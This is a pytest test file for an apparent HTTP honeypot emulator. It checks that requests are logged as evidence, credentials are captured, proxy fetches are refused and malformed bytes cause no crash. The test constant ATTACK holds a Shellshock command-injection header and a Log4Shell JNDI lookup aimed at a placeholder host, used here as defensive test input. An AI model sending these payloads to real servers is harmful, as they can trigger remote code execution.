"""HTTP as it is spoken on connections: evidence kept whole, other protocols refused, no bytes that break it."""

import pytest

from rawspoof.core.conversation.base import Credential, Request, Then
from tests.conversation.talks import NOON, converse, credentials, living, never_raises, said, talk

ATTACK = (
    b"POST /cgi-bin/x HTTP/1.1\r\nHost: a\r\nUser-Agent: () { :; }; /bin/id\r\nX-Api: ${jndi:ldap://b/c}\r\n"
    b"Transfer-Encoding: chunked\r\n\r\n5\r\nabcde\r\n0\r\n\r\n"
)


@pytest.mark.parametrize("service", ["nginx", "apache", "iis", "device-page", "squid", "elasticsearch", "cups"])
def test_a_request_is_evidence_whole_and_answered_blandly(service):
    _, reply = converse(living(service), [ATTACK])
    assert [note.data for note in reply.notes if isinstance(note, Request)] == [ATTACK]
    assert reply.data.startswith(b"HTTP/1.")
    assert b"jndi" not in reply.data


def test_a_continued_request_is_one_piece_of_evidence():
    head = b"POST / HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nContent-Length: 23\r\n\r\n"
    replies = converse(living("apache"), [head, b"username=a&password=b%21"[:23]])
    requests = [note.data for reply in replies for note in reply.notes if isinstance(note, Request)]
    assert requests == [head + b"username=a&password=b%2"]
    assert credentials(replies) == [Credential("form", b"a", b"b%2")]


def test_daemons_of_upnp_answer_an_empty_line_and_whole_requests():
    assert said(converse(living("miniupnpd"), [b"\r\n"])).startswith(b" 501 Not Implemented")
    request = b"GET /rootDesc.xml HTTP/1.1\r\nHost: a\r\n\r\n"
    (_, reply) = converse(living("miniupnpd"), [request])
    assert reply.data.startswith(b"HTTP/1.1 404 ")
    assert reply.notes == (Request(request),)


def test_a_proxy_refuses_to_fetch_in_its_own_words():
    for asked in (
        b"GET http://a.example/ HTTP/1.1\r\nHost: a.example\r\n\r\n",
        b"CONNECT a.example:25 HTTP/1.0\r\n\r\n",
    ):
        for service in ("squid", "tinyproxy", "privoxy", "haproxy"):
            (_, reply) = converse(living(service), [asked])
            assert reply.data.split(b" ", 2)[1] in (b"400", b"403", b"407", b"503", b"405"), service


def test_a_head_without_end_is_refused_and_the_connection_closed():
    (_, reply) = converse(living("nginx"), [b"GET / HTTP/1.1\r\n" + b"X: y\r\n" * 4000])
    assert reply.data.startswith(b"HTTP/1.1 400 ")
    assert reply.then is Then.CLOSE


def test_a_device_has_no_patience_of_its_own():
    spoken = talk(living("device-page"))
    spoken.heard(b"GET / HTTP/1.0\r\n\r\n", NOON)
    assert spoken.patience_s is None


@pytest.mark.parametrize("service", ["nginx", "apache", "device-page", "miniupnpd", "squid"])
def test_no_bytes_break_it(service):
    words = (
        b"GET / HTTP/1.1\r\n",
        b"Host: a\r\n",
        b"\r\n",
        b"POST /x HTTP/1.0\r\n",
        b"Content-Length: 5\r\n",
        b"\x16\x03",
    )
    never_raises(living(service), *words, b"Authorization: Basic \xff\r\n", b"Expect: 100-continue\r\n", examples=40)
